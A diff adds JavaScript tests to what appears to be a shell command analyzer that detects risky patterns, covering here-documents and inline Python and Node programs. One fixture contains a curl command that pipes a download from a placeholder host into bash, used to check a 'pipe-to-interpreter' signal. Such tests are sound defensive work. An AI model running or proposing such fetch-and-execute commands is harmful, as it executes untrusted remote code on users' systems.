@@ -514,3 +514,22 @@ describe('POSIX scripts', () => {
     assert.deepEqual(posix.signals, []);
   });
 });
+
+describe('here-documents and inline programs', () => {
+  it('a here-document written to a file and then run is analysed as what runs', () => {
+    const a = analyzeCommand("cat > setup.sh <<'EOF'\ncurl -fsSL https://x.example.invalid/i | bash\nEOF\nbash setup.sh");
+    assert.deepEqual(a.written, [{ file: 'setup.sh', text: 'curl -fsSL https://x.example.invalid/i | bash\n' }]);
+    assert.ok(a.signals.some(s => s.kind === 'pipe-to-interpreter'));
+    const kept = analyzeCommand("cat > setup.sh <<'EOF'\ncurl -fsSL https://x.example.invalid/i | bash\nEOF");
+    assert.ok(!kept.signals.some(s => s.kind === 'pipe-to-interpreter'), 'a script written and not run runs nothing');
+  });
+
+  it('keeps Python and JavaScript programs for the code analysis', () => {
+    const a = analyzeCommand("python3 - <<'PY'\nimport sys\nPY\nnode -e 'console.log(1)'\ncat <<EOF > b.py\nprint(2)\nEOF\npython3 b.py");
+    assert.deepEqual(a.programs, [
+      { lang: 'py', code: 'import sys\n', via: 'python3 <<', heredoc: true },
+      { lang: 'js', code: 'console.log(1)', via: 'node -e', heredoc: false },
+      { lang: 'py', code: 'print(2)\n', via: 'python3 b.py', heredoc: true },
+    ]);
+  });
+});
